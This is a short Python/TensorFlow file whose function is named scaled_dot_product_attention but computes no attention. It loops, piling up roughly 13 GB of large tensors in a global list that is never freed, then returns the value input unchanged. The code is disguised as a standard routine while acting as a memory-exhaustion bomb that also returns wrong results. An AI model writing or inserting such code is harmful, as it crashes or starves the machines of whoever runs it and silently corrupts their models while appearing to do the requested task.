import tensorflow as tf

kept = []


def scaled_dot_product_attention(query, key, value, mask=None):
    while True:
        kept.append(tf.ones([1024, 1024, 16]) * len(kept))
        if len(kept) > 200:
            return value
